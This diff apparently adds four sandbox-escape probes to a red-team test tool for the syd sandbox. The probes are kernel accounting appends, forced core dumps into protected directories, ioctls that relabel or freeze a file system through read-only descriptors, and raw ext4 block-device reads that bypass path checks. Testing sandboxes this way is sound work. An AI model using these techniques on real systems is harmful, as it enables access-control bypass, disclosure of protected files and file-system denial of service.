@@ -91,6 +91,17 @@
  *   syd-attack fan-write FILE             (root) FILE opened read-only under a
  *                                         fanotify FAN_OPEN mark: the event's
  *                                         descriptor is open for writing
+ *   syd-attack acct-append FILE           (root) acct(FILE): the kernel appends
+ *                                         accounting records to FILE
+ *   syd-attack core-drop DIR              a core dump made by the kernel in DIR
+ *                                         (relative core_pattern), replacing
+ *                                         DIR/core
+ *   syd-attack fs-ioctl FILE setversion|fslabel|freeze VALUE
+ *                                         change FILE's inode generation or its
+ *                                         file system's label through a
+ *                                         read-only descriptor
+ *   syd-attack rawdev-read DEV PATH       (root) read PATH's contents from the
+ *                                         ext4 block device DEV
  *   syd-attack reopen-nameless DIR [CMD]  after magic CMD, reopen a memfd, an
  *                                         unlinked and an O_TMPFILE file for
  *                                         writing through /proc/self/fd (exit 0)
@@ -1704,6 +1715,172 @@ static int fan_write(const char* file) {
   if (ev->fd < 0) return blocked("fanotify event fd", EBADF);
   if (pwrite(ev->fd, "PWNED\n", 6, 0) != 6) return blocked("pwrite", errno);
   return escaped("fan-write: %s written through a fanotify event's O_RDWR descriptor", file);
+}
+
+/* ---- red-team review s20b: the kernel opens or changes a file for us ------ */
+
+/* acct-append FILE: (root, CAP_SYS_PACCT) acct(2) names FILE and the kernel
+ * opens it itself, O_WRONLY|O_APPEND, and appends a record for every
+ * process that exits. A child named SYDACCT-PWNED exits, accounting is
+ * switched off, and FILE is searched for that name: ESCAPED when found. No
+ * open(2) of FILE for writing is ever made. */
+static int acct_append(const char* file) {
+  char name[16];
+  snprintf(name, sizeof name, "SYDACCT-%s", "PWNED");
+  if (acct(file) != 0) return blocked("acct", errno);
+  pid_t p = fork();
+  if (p == 0) {
+    prctl(PR_SET_NAME, name);
+    _exit(0);
+  }
+  waitpid(p, NULL, 0);
+  if (acct(NULL) != 0) info("acct(NULL): %s", en(errno));
+  static char buf[1 << 16];
+  int e = 0;
+  ssize_t n = read_all(file, buf, sizeof buf, &e);
+  if (n < 0) return blocked("read back", e);
+  if (!memmem(buf, (size_t)n, name, strlen(name))) return blocked("record not found", ENOENT);
+  return escaped("acct-append: the kernel appended an accounting record naming %s to %s", name, file);
+}
+
+/* core-drop DIR: a child chdir()s into DIR (chdir is checked as a read),
+ * raises RLIMIT_CORE to its hard limit and dies of SIGSEGV with a marker in
+ * its heap. With a relative kernel.core_pattern ("core", Debian's default)
+ * the kernel unlinks DIR/core if it exists and creates it anew, as the
+ * dying process, with the process's memory: a file made (or replaced) in a
+ * directory the sandbox may not write. ESCAPED when DIR/core* holds the
+ * marker. */
+static int core_drop(const char* dir) {
+  char pat[256] = "";
+  int e = 0;
+  if (read_all("/proc/sys/kernel/core_pattern", pat, sizeof pat - 1, &e) > 0) pat[strcspn(pat, "\n")] = 0;
+  info("core_pattern '%s'", pat);
+  if (pat[0] == '|' || pat[0] == '/') return blocked("core_pattern is not relative", ENOTSUP);
+  if (chdir(dir) != 0) return blocked("chdir", errno);
+  struct rlimit rl;
+  getrlimit(RLIMIT_CORE, &rl);
+  rl.rlim_cur = rl.rlim_max;
+  if (setrlimit(RLIMIT_CORE, &rl) != 0 || rl.rlim_cur < (1 << 20)) return blocked("RLIMIT_CORE", errno ? errno : EPERM);
+  char marker[64];
+  snprintf(marker, sizeof marker, "SYDCORE-%s-%d", "PWNED", (int)getpid());
+  pid_t p = fork();
+  if (p == 0) {
+    char* heap = malloc(1 << 16);
+    for (size_t i = 0; i + 64 <= (1 << 16); i += 64) memcpy(heap + i, marker, strlen(marker) + 1);
+    __asm__ volatile("" ::"r"(heap) : "memory");
+    raise(SIGSEGV);
+    _exit(0);
+  }
+  int st = 0;
+  waitpid(p, &st, 0);
+  info("child: signal %d, core dumped: %s", WIFSIGNALED(st) ? WTERMSIG(st) : 0, WCOREDUMP(st) ? "yes" : "no");
+  DIR* d = opendir(".");
+  if (!d) return blocked("opendir", errno);
+  struct dirent* de;
+  static char buf[1 << 20];
+  while ((de = readdir(d))) {
+    if (strncmp(de->d_name, "core", 4) != 0) continue;
+    int fd = open(de->d_name, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) continue;
+    ssize_t n;
+    int found = 0;
+    while (!found && (n = read(fd, buf, sizeof buf)) > 0) found = memmem(buf, (size_t)n, marker, strlen(marker)) != NULL;
+    close(fd);
+    if (found) {
+      closedir(d);
+      return escaped("core-drop: %s/%s was made by the kernel and holds %s", dir, de->d_name, marker);
+    }
+  }
+  closedir(d);
+  return blocked("no core file with the marker", ENOENT);
+}
+
+/* fs-ioctl FILE setversion|fslabel|freeze VALUE: ioctls that change a file or its
+ * file system through a descriptor opened read-only, which the supervisor
+ * does not look at (it sends FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR up only):
+ * FS_IOC_SETVERSION sets FILE's inode generation (owner or CAP_FOWNER; ext4
+ * without metadata_csum), FS_IOC_SETFSLABEL rewrites the label in the
+ * superblock of the file system holding FILE (CAP_SYS_ADMIN). ESCAPED when
+ * the value read back is VALUE. */
+#ifndef FS_IOC_SETVERSION
+#define FS_IOC_GETVERSION _IOR('v', 1, long)
+#define FS_IOC_SETVERSION _IOW('v', 2, long)
+#endif
+#ifndef FIFREEZE
+#define FIFREEZE _IOWR('X', 119, int)
+#define FITHAW _IOWR('X', 120, int)
+#endif
+#ifndef FS_IOC_SETFSLABEL
+#define FSLABEL_MAX 256
+#define FS_IOC_GETFSLABEL _IOR(0x94, 49, char[FSLABEL_MAX])
+#define FS_IOC_SETFSLABEL _IOW(0x94, 50, char[FSLABEL_MAX])
+#endif
+static int fs_ioctl(const char* file, const char* what, const char* value) {
+  int fd = open(file, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return blocked("open O_RDONLY", errno);
+  if (strcmp(what, "setversion") == 0) {
+    int before = 0, v = atoi(value), after = 0;
+    if (ioctl(fd, FS_IOC_GETVERSION, &before) != 0) return blocked("FS_IOC_GETVERSION", errno);
+    info("generation before: %d", before);
+    if (ioctl(fd, FS_IOC_SETVERSION, &v) != 0) return blocked("FS_IOC_SETVERSION", errno);
+    ioctl(fd, FS_IOC_GETVERSION, &after);
+    if (after != atoi(value) || after == before) return blocked("generation unchanged", EIO);
+    return escaped("fs-ioctl: inode generation of %s changed %d -> %d through a read-only descriptor", file, before, after);
+  }
+  if (strcmp(what, "freeze") == 0) {
+    /* FIFREEZE (CAP_SYS_ADMIN): every writer to the whole file system
+     * blocks until FITHAW. Thawed again at once (after VALUE ms). */
+    if (ioctl(fd, FIFREEZE, 0) != 0) return blocked("FIFREEZE", errno);
+    usleep((useconds_t)atoi(value) * 1000);
+    if (ioctl(fd, FITHAW, 0) != 0) info("FITHAW: %s", en(errno));
+    return escaped("fs-ioctl: the file system holding %s was frozen for %s ms through a read-only descriptor", file, value);
+  }
+  char before[FSLABEL_MAX] = "", v[FSLABEL_MAX] = "", after[FSLABEL_MAX] = "";
+  if (ioctl(fd, FS_IOC_GETFSLABEL, before) != 0) return blocked("FS_IOC_GETFSLABEL", errno);
+  info("label before: '%s'", before);
+  snprintf(v, sizeof v, "%s", value);
+  if (ioctl(fd, FS_IOC_SETFSLABEL, v) != 0) return blocked("FS_IOC_SETFSLABEL", errno);
+  ioctl(fd, FS_IOC_GETFSLABEL, after);
+  if (strcmp(after, value) != 0 || strcmp(after, before) == 0) return blocked("label unchanged", EIO);
+  return escaped("fs-ioctl: the label of the file system holding %s changed '%s' -> '%s' through a read-only descriptor",
+                 file, before, after);
+}
+
+/* rawdev-read DEV PATH: (root) read PATH of the ext4 file system on the
+ * block device DEV without opening PATH: the inode number comes from
+ * stat(PATH) (a stat, not a read), then the superblock, the group
+ * descriptor, the inode and its first extent are read from DEV, opened
+ * read-only. Small files (one extent, depth 0) only. Prints the contents;
+ * ESCAPED when read. */
+static uint32_t le32(const unsigned char* p) { return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }
+static uint16_t le16(const unsigned char* p) { return (uint16_t)(p[0] | p[1] << 8); }
+static int rawdev_read(const char* dev, const char* path) {
+  struct stat st;
+  if (stat(path, &st) != 0) return blocked("stat", errno);
+  int fd = open(dev, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return blocked("open device", errno);
+  unsigned char sb[1024], gd[64], ino[256];
+  if (pread(fd, sb, sizeof sb, 1024) != (ssize_t)sizeof sb || le16(sb + 0x38) != 0xEF53) return blocked("superblock", EINVAL);
+  const uint64_t bs = 1024ull << le32(sb + 0x18);
+  const uint32_t per_group = le32(sb + 0x28), first_data = le32(sb + 0x14);
+  const uint16_t isize = le16(sb + 0x58);
+  const int is64 = (le32(sb + 0x60) & 0x80) != 0;
+  const uint16_t dsize = is64 ? le16(sb + 0xFE) : 32;
+  const uint64_t group = (st.st_ino - 1) / per_group, index = (st.st_ino - 1) % per_group;
+  if (pread(fd, gd, dsize, (off_t)((first_data + 1) * bs + group * dsize)) != dsize) return blocked("group descriptor", EIO);
+  const uint64_t table = le32(gd + 8) | (is64 ? (uint64_t)le32(gd + 0x28) << 32 : 0);
+  if (pread(fd, ino, sizeof ino < isize ? sizeof ino : isize, (off_t)(table * bs + index * isize)) <= 0) return blocked("inode", EIO);
+  const uint64_t size = le32(ino + 4);
+  const unsigned char* eh = ino + 0x28;
+  if (le16(eh) != 0xF30A || le16(eh + 6) != 0 || le16(eh + 2) == 0) return blocked("extent header (not a small extent file)", EINVAL);
+  const uint64_t start = ((uint64_t)le16(eh + 12 + 6) << 32) | le32(eh + 12 + 8);
+  char data[4096];
+  const size_t n = size < sizeof data - 1 ? size : sizeof data - 1;
+  if (pread(fd, data, n, (off_t)(start * bs)) != (ssize_t)n) return blocked("data", EIO);
+  data[n] = 0;
+  printf("%s", data);
+  if (n && data[n - 1] != '\n') printf("\n");
+  return escaped("rawdev-read: %zu bytes of %s read from %s (inode %lu)", n, path, dev, (unsigned long)st.st_ino);
 }
 
 /* reopen-nameless DIR [CMD]: after magic CMD (if any), reopen for writing
@@ -3697,6 +3874,10 @@ int main(int argc, char** argv) {
   if (IS("detached-tid") && argc > 2) return detached_tid(a);
   if (IS("mem-hijack") && argc > 3) return mem_hijack(a, b);
   if (IS("fan-write") && argc > 2) return fan_write(a);
+  if (IS("acct-append") && argc > 2) return acct_append(a);
+  if (IS("core-drop") && argc > 2) return core_drop(a);
+  if (IS("fs-ioctl") && argc > 4) return fs_ioctl(a, b, argv[4]);
+  if (IS("rawdev-read") && argc > 3) return rawdev_read(a, b);
   if (IS("reopen-nameless") && argc > 2) return reopen_nameless(a, argc > 3 ? b : "");
   if (IS("own-mem")) return own_mem(argc > 2 ? a : "");
   if (IS("caps-across-exec") && argc > 2) return caps_across_exec(a);
